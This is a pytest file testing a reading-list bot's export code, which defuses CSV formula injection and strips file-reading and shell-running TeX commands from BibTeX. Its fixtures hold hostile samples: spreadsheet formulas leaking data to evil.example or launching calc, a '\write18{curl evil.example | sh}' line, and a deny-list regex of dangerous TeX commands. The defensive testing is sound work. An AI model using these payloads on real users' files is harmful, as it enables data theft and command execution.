"""Exports a reader opens elsewhere must not run anything there (issue 26, items 8 and 9).

CSV: a cell starting with `= + - @`, tab or CR is a formula to Excel and LibreOffice (OWASP
"CSV injection"); it gets a leading single quote and keeps the rest of its text.
BibTeX: the source's own entries are parsed (pybtex) and written back only when they parse; keys
are unique over the whole file; TeX commands that read or write files, run programs or redefine
TeX (`\\input`, `\\write18`, `\\catcode`, `\\def`...) are dropped, in generated entries too.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
import rispy
from pybtex.database import parse_string

from bot.library import export
from bot.papers.records import Link, Paper

SAVED = datetime(2026, 1, 2, tzinfo=UTC)
# Every command the export must never let through (a control word, not a longer one).
DANGEROUS = re.compile(
    r"(?<!\\)(?:\\\\)*\\(?:input|include|write|openout|openin|immediate|catcode|def|edef|"
    r"gdef|xdef|let|csname|newcommand|renewcommand|directlua|read|special|usepackage)(?![A-Za-z])"
)


def paper(pid: str, title: str, **kw: object) -> Paper:
    base: dict[str, object] = {
        "abstract": "",
        "venue": "ICML 2026",
        "year": 2026,
        "authors": ("Ada Lovelace",),
    }
    return Paper(id=pid, title=title, **{**base, **kw})  # type: ignore[arg-type]


def entries(*papers: Paper) -> list[export.Entry]:
    return [export.Entry(p, SAVED, False) for p in papers]


# -- CSV ------------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_title_author_and_venue_formulas_are_quoted(formula: str) -> None:
    p = paper(formula[:20], formula, authors=(formula, "Pat Doe"), venue=formula)
    [row] = _rows(export.to_csv(entries(p)))
    for column in ("id", "title", "authors", "venue"):
        assert row[column].startswith("'"), (column, row[column])
    assert row["title"] == "'" + formula  # the rest of the text is kept as it was
    assert row["venue"] == "'" + formula
    assert row["authors"] == "'" + formula + "; Pat Doe"


@pytest.mark.parametrize("lead", ["\t", "\r"])
def test_csv_cells_starting_with_tab_or_cr_are_quoted(lead: str) -> None:
    venue = lead + "=1+2"
    p = paper("x/1", "A title", venue=venue, links=(Link("page", lead + "=cmd"),))
    [row] = _rows(export.to_csv(entries(p)))
    assert row["venue"] == "'" + venue
    assert row["url"] == "'" + lead + "=cmd"


def test_csv_plain_cells_are_untouched() -> None:
    p = paper("x/2", "Sparse = dense? A - B @ scale", authors=("Ada Lovelace", "=evil"))
    [row] = _rows(export.to_csv(entries(p)))
    assert row["id"] == "x/2"
    assert row["title"] == "Sparse = dense? A - B @ scale"  # a sign inside a cell is harmless
    assert row["authors"] == "Ada Lovelace; =evil"  # the cell starts with a letter
    assert row["year"] == "2026"


# -- BibTeX ---------------------------------------------------------------------------------------

ATTACK = r"$\input{/etc/passwd}\write18{curl evil.example | sh}$"


def test_generated_entries_drop_dangerous_commands() -> None:
    papers = [
        paper("g/1", ATTACK + " Learning", abstract=r"We show $\immediate\openout1=x.tex$ works."),
        paper("g/2", r"Tricks $\in\inputput{a}$ and $\csname input\endcsname{b}$"),
        paper("g/3", r"Hex $\^^69nput{c}$ and $^^5cinput{d}$ and $\def\x{\catcode`\^^M=13}$"),
        paper("g/4", r"Even $\\input{e}$ and $\include{f}\let\y\read$ $\ell_1$ kept"),
    ]
    text = export.to_bibtex(entries(*papers))
    db = parse_string(text, "bibtex")
    assert len(db.entries) == len(papers)
    assert not DANGEROUS.findall(text), DANGEROUS.findall(text)
    assert "^^" not in text  # TeX reads ^^5c as a backslash, ^^69 as "i"
    assert r"$\ell_1$" in text  # harmless math stays as written
    assert "/etc/passwd" in text  # the words stay, as text


GOOD = "@article{vaswani2017attention,\n  title = {Attention Is All You Need},\n  year = {2017}\n}"


def test_source_entries_are_parsed_keys_unique_and_defused() -> None:
    missing_brace = paper(
        "s/1",
        "Missing Brace Paper",
        bibtex="@inproceedings{lost2020,\n  title = {Lost},\n  year = {2020}\n",
    )
    nxt = paper("s/2", "Attention Is All You Need", bibtex=GOOD)
    same_key = paper("s/3", "Attention Again", bibtex=GOOD.replace("Attention Is", "Again"))
    other_case = paper("s/4", "Case", bibtex=GOOD.replace("vaswani", "Vaswani"))
    hostile = paper(
        "s/5",
        "Hostile",
        bibtex=(
            "@article{hostile1,\n  title = {{\\input{/etc/passwd}} Hostile},\n"
            "  author = {\\def\\x{y}Smith, John and Doe, Jane},\n"
            "  note = {\\immediate\\write18{calc}},\n  year = {2021}\n}"
        ),
    )
    two = paper("s/6", "Two Entries", bibtex=GOOD + "\n@misc{extra, title={Smuggled}}")
    bad_key = paper("s/7", "Bad Key", bibtex="@article{\\input{x}, title = {y}}")
    macro = paper("s/8", "Macro Paper", bibtex="@article{m1, title = undefinedmacro}")
    generated = paper("s/9", "Plain generated", authors=("Grace Hopper",))
    papers = [missing_brace, nxt, same_key, other_case, hostile, two, bad_key, macro, generated]

    text = export.to_bibtex(entries(*papers))
    db = parse_string(text, "bibtex")  # the whole file parses (pybtex refuses repeated keys)
    assert len(db.entries) == len(papers)  # one entry per paper, none swallowed, none smuggled
    keys = [k.lower() for k in db.entries]
    assert len(set(keys)) == len(keys)
    titles = {e.fields["title"] for e in db.entries.values()}
    assert "Attention Is All You Need" in titles  # the paper after the broken one survives
    assert "{Missing Brace Paper}" in titles  # the broken source entry fell back to ours
    assert "Smuggled" not in titles
    assert "{Bad Key}" in titles
    assert "{Macro Paper}" in titles
    # Three papers wanting one key (ignoring case, as BibTeX does) share it with suffixes.
    assert {f"vaswani2017attention{s}" for s in "abc"} <= set(keys)
    assert not DANGEROUS.findall(text), DANGEROUS.findall(text)
    assert "hostile1" in db.entries
    authors = [str(p) for p in db.entries["hostile1"].persons["author"]]
    assert len(authors) == 2
    assert authors[1] == "Doe, Jane"
    # Deterministic: the same papers in another order give the same entries.
    again = export.to_bibtex(entries(*reversed(papers)))
    assert sorted(again.strip().split("\n\n")) == sorted(text.strip().split("\n\n"))
    assert sorted(export.keys_for(papers).values()) == sorted(db.entries)


# -- parts ----------------------------------------------------------------------------------------


def _many(n: int) -> list[export.Entry]:
    return entries(
        *(
            paper(f"m/{i:03d}", f"Paper number {i}", abstract="words " * 40, authors=("A Bee",))
            for i in range(n)
        )
    )


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_parts_stay_under_the_limit_and_hold_every_paper(fmt: str) -> None:
    listed = _many(60)
    whole = export.export(listed, fmt).encode()
    limit = len(whole) // 3
    parts = export.export_parts(listed, fmt, limit, 10)
    assert 3 <= len(parts) <= 5
    assert all(len(part) <= limit for part in parts)
    if fmt == "bibtex":
        keys = [k for part in parts for k in parse_string(part.decode(), "bibtex").entries]
        assert len(keys) == len(set(keys)) == 60
        assert sorted(keys) == sorted(parse_string(whole.decode(), "bibtex").entries)
    elif fmt == "csv":
        rows = [r for part in parts for r in _rows(part.decode())]
        assert [r["id"] for r in rows] == [e.paper.id for e in listed]
    elif fmt == "ris":
        records = [r for part in parts for r in rispy.loads(part.decode())]
        assert [r["notes"] for r in records] == [[f"paper id: {e.paper.id}"] for e in listed]
    elif fmt == "csljson":
        items = [i for part in parts for i in json.loads(part)]
        assert [i["id"] for i in items] == [e.paper.id for e in listed]
    else:
        assert all(part.startswith(b"# Reading list\n\n") for part in parts)
        assert sum(part.count(b"\n- [ ] ") for part in parts) == 60
    assert export.export_parts(listed, fmt, len(whole), 1) == [whole]


def test_parts_refuse_when_more_files_are_needed_than_allowed() -> None:
    listed = _many(60)
    whole = export.export(listed, "csv").encode()
    with pytest.raises(export.TooLarge):
        export.export_parts(listed, "csv", len(whole) // 3, 2)
    with pytest.raises(export.TooLarge):  # one paper alone over the limit
        export.export_parts(listed, "csv", 60, 10)
